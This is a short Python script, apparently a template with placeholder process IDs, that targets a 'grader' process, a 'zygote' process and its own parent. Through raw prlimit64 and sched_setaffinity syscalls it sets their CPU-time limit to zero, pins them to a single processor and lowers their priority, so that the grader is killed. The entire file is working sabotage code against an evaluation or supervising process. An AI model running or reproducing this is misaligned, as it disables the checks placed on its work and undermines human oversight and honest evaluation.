"""Takes the grader's limits down, its place on the processors and its turn: it then ends by itself."""
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
for pid in (int("@VICTIM@"), int("@ZYGOTE@"), os.getppid()):
    print(libc.syscall(302, pid, 0, struct.pack("QQ", 0, 0), None), os.strerror(ctypes.get_errno()))
    print(libc.syscall(203, pid, 8, struct.pack("Q", 1)))
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError as error:
        print(error)
